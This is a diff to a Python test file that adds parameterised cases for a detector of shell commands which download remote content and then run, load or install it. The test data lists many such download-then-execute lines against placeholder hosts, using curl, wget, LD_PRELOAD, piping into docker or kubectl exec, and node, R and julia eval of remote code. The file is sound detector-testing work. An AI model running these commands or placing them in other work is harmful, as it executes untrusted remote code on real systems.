@@ -1043,3 +1043,46 @@ def test_makefile_is_evaluated_in_as_many_rounds_as_its_texts_need() -> None:
 )  # fmt: skip
 def test_program_that_windows_runs_from_an_object_a_list_or_without_its_extension_is_mentioned(text, use) -> None:
     assert use in {mention.use for mention in collect_windows_mentions(text)}
+
+
+@check_each(
+    "text, use",
+    [
+        ("mkdir -p b; curl -so b/x.sh http://e/x; cd b && sh x.sh", "download-then-run"),
+        ("cd /tmp; curl -so x.sh http://e/x; sh /tmp/x.sh", "download-then-run"),
+        ("wget -P d http://e/x.sh; mv d e; sh e/x.sh", "download-then-run"),
+        ("wget http://e/x.sh; rename s/sh/txt/ x.sh; sh x.txt", "download-then-run"),
+        ("wget -O - http://e/x.sh | split -b 1m - p_; sh p_aa", "download-then-run"),
+        ("wget -O a http://e/x; sed -n p a > b.sh; sh b.sh", "download-then-run"),
+        ("wget -O a http://e/x; sed 's/a/a/w c.sh' a; sh c.sh", "download-then-run"),
+        ("curl -so /tmp/x.so http://e/x; LD_PRELOAD=/tmp/x.so python train.py", "download-then-run"),
+        ("python3 -m wget http://e/y.sh -o y.sh; sh y.sh", "download-then-run"),
+        ("curl http://e/x | docker exec -i c sh", "download-and-run"),
+        ("curl http://e/x | kubectl exec -i p -- sh", "download-and-run"),
+        ('node -e \'require("https").get("https://e/x", r => r.on("data", d => eval(String(d))))\'', "decode-and-run"),
+        ("Rscript -e 'source(\"https://e/x.R\")'", "decode-and-run"),
+        ("julia -e 'include(download(\"https://e/x.jl\"))'", "decode-and-run"),
+        ("git clone --depth 1 https://e.invalid/a/x.git; cd x; make install", "address"),
+        ("git -C /tmp clone http://e.invalid/a/x.git; make -C /tmp/x install", "address"),
+        ("git clone http://e.invalid/a/x.git; . x/run.sh", "address"),
+        ("wget https://e.invalid/x.deb; sudo dpkg -i x.deb", "address"),
+        ("curl -O https://e.invalid/x.whl; pip install ./x.whl", "address"),
+        ("curl -s https://e.invalid/x.yaml | kubectl apply -f -", "address"),
+        ("curl -s https://e.invalid/x | docker load", "address"),
+    ],
+)
+def test_downloaded_content_that_a_script_moves_changes_loads_or_installs_is_mentioned(text: str, use: str) -> None:
+    assert use in {mention.use for mention in collect_script_mentions(text)}
+
+
+@check_each(
+    "text",
+    [
+        "curl -so b/x.csv http://e/x; cd b && sh x.sh",
+        "curl -so a.csv http://e/x; mv d e; sed -n p a.csv > b.csv; sh e/x.sh",
+        "docker exec -i c sh -c 'ls' < x; cat x | kubectl exec -i p -- tar x",
+        "wget -O - http://e/x.csv | split -b 1m - p_; sh prepare.sh",
+    ],
+)
+def test_downloaded_data_beside_a_script_of_the_model_is_not_mentioned(text: str) -> None:
+    assert list(collect_script_mentions(text)) == []
